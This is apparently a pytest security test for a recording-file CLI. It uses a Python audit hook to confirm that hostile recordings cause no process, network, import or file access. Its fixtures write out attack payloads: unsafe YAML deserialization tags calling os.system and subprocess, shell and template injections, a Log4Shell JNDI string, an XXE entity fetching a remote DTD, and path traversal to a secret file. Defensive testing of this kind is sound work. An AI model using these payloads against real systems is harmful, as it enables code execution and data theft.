"""Nothing in a recording is run, imported, fetched or read as the name of another file.

The interpreter itself tells what happens: `sys.addaudithook` sees every file that is opened, every
program that is started, every socket and every import, whoever asks for it.
"""

import json
import os
import subprocess
import sys

import pytest
from tests.hostile import HOSTILE, interaction
from tests.program import ROOT

AUDITED = """
import json, os, sys
from cassette_cli.commands.app import run
seen, watching = [], False
def hook(event, arguments):
    if watching:
        seen.append([event, *map(repr, arguments[:2])])
sys.addaudithook(hook)
for command in json.loads(sys.argv[1]):
    sys.argv = ["cassette", *command]
    watching = True
    try:
        run()
    except SystemExit:
        pass
    watching = False
with open("seen.json", "w") as file:
    json.dump(seen, file)
"""
COMMANDS = [
    ["show", "c"], ["show", "--json", "c"], ["show", "--html", "page.html", "c"], ["list", "c"],
    ["show", "--markdown", "c"], ["cat", "c"], ["cat", "--text", "c"], ["grep", "x", "c"],
    ["diff", "c", "d"], ["diff", "--html", "page.html", "c", "d"], ["redact", "--check", "c"],
    ["redact", "c"], ["rewrite", "c", "--set", "/response/status=503"], ["show", "."],
]  # fmt: skip
RUNS = ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "subprocess.Popen")
REACHES = (
    "socket.",
    "urllib.",
    "http.",
    "ftplib.",
    "smtplib.",
    "webbrowser.",
    "ctypes.",
    "pickle.",
)

YAML = """\
interactions:
- request:
    body: "<%= `touch pwned` %> <% File.read('../secret') %> #{`touch pwned`} $(touch pwned)"
    headers:
      A: ['{{ "".__class__.__mro__ }} {% include "../secret" %} ${jndi:ldap://llm.example/}']
      B: !!python/object/apply:os.system ['touch pwned']
      C: [!!python/name:payload.run , !!python/module:payload ]
    method: POST
    uri: "file:///../secret"
  response:
    body:
      string: !!python/object/apply:subprocess.check_output [['touch', 'pwned']]
      file: ../secret
    bodyFileName: ../secret
    headers:
      content-type: ['text/html; charset=payload']
      content-encoding: [payload]
      location: ['file:../secret']
    status: {code: 200, message: OK}
- request:
    body: !ruby/object:Gem::Installer {i: x}
    headers: !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection {a: b}
    method: !!python/object/new:payload.Run [x]
    uri: !include ../secret
  response:
    body: {string: !ruby/object:File {path: ../secret}}
    headers: !!python/object/new:payload.Run {args: [{x: y}], state: {a: b}, listitems: [1]}
    status: !!java.net.URLClassLoader [[!!java.net.URL ["http://llm.example/"]]]
version: 1
"""
XML = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:../secret"><!ENTITY % c SYSTEM '
    '"http://llm.example/x.dtd">%c;]><a>&b;</a>'
)
WIREMOCK = json.dumps(
    {"request": {"url": "/x", "method": "GET"}, "response": {"bodyFileName": "../secret"}}
)


def hostile_json() -> str:
    """Return a recording in JSON in which everything tries to be more than text."""
    words = [*HOSTILE, XML, "../secret", "file:../secret", "@../secret"]
    return json.dumps({"version": 1, "interactions": [interaction(one) for one in words]})


@pytest.mark.parametrize("text", [YAML, hostile_json(), WIREMOCK], ids=["yaml", "json", "wiremock"])
def test_nothing_but_the_named_files_is_touched(tmp_path, text):
    """By no command; git alone is run, which says when a value came into the history."""
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "secret").write_text("the secret text")
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "payload.py").write_text("open('pwned', 'w')\nrun = Run = print\n")
    for name in ("c", "d"):
        (folder / name).write_text(text)
    done = subprocess.run(
        [sys.executable, "-c", AUDITED, json.dumps(COMMANDS)], cwd=folder, check=False,
        env={"PYTHONPATH": f"{ROOT / 'cli'}:{modules}", "PATH": os.defpath}, capture_output=True,
        timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    assert b"the secret text" not in done.stdout + done.stderr
    check_seen(json.loads((folder / "seen.json").read_text()))
    assert {path.name for path in folder.iterdir()} <= {"c", "d", "page.html", "seen.json"}


def check_seen(seen):
    """Fail for an event that no reading or writing of the named files needs."""
    events = {event for event, *_ in seen}
    assert "open" in events, "the hook sees nothing"
    assert [one for one in seen if one[0].startswith(REACHES)] == []
    assert [one for one in seen if one[0] in RUNS and "git'" not in one[1]] == []
    assert [one for one in seen if one[0] == "import" and "payload" in one[1]] == []
    opened = {one[1] for one in seen if one[0] == "open"}
    assert [name for name in opened if "secret" in name or "payload" in name] == []
